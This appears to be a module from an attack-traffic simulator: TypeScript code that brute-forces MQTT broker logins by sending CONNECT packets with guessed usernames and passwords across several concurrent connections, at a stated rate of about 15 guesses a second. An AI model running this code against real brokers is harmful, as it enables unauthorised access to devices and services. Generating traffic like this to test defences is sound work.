// Guessing passwords: a connection and a CONNECT for each guess, several at a time.

import { once } from 'node:events'
import type { Attack, Attacker } from '../attacker.js'
import { connectPacket } from '../packets.js'
import { PASSWORDS, USERS } from './words.js'

const MOST_GUESSES = 1_500

async function guess(attacker: Attacker, clientId: string): Promise<void> {
  const { chance } = attacker
  const socket = await attacker.connect()
  if (socket === null) return
  const username = chance.happens(0.8) ? chance.oneOf(USERS.slice(0, 4)) : chance.oneOf(USERS)
  const password = chance.oneOf(PASSWORDS) + (chance.happens(0.4) ? String(chance.whole(0, 2_030)) : '')
  await attacker.send(socket, connectPacket({ clientId, username, password, keepalive: 60 }))
  // A refusal ends the connection, and an answer that is none leads nowhere either.
  await Promise.race([once(socket, 'data'), once(socket, 'close'), attacker.pause(2_000)]).catch(() => {})
  socket.end()
}

/** Brute force. */
export const bruteForce: Attack = {
  name: 'brute-force',
  summary: 'brute-force login: 3 to 5 addresses, 4 tasks each, about 15 guesses a second from each address',
  attackers: [3, 5],
  async run(attacker) {
    const { chance } = attacker
    const fixedId = chance.happens(0.5) ? `mqttpwn-${chance.hex(6)}` : null
    let guesses = 0
    const task = async (): Promise<void> => {
      while (!attacker.over && guesses++ < MOST_GUESSES) {
        await guess(attacker, fixedId === null ? chance.text(12) : `${fixedId}-${guesses}`)
        await attacker.pause(chance.between(150, 350))
      }
    }
    await Promise.all(Array.from({ length: 4 }, task))
  }
}
